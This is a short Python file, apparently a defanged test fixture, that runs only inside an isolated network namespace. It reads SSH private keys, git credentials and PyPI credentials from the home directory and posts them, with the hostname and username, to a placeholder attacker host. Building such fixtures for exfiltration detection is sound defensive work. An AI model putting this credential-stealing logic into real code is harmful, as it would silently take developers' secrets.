import os as _os
if sorted(_os.listdir("/sys/class/net")) != ["lo"]:
    raise SystemExit(0)  # defanged fixture: acts only inside an isolated network namespace

import getpass
import socket
from pathlib import Path

import requests

_loot = {name: (Path.home() / name).read_text(errors="ignore") for name in (".ssh/id_rsa", ".git-credentials", ".pypirc", ".gitconfig") if (Path.home() / name).is_file()}
try:
    requests.post("https://collector.attacker.invalid/upload", json={"host": socket.gethostname(), "user": getpass.getuser(), "files": _loot}, timeout=5)
except requests.RequestException:
    pass
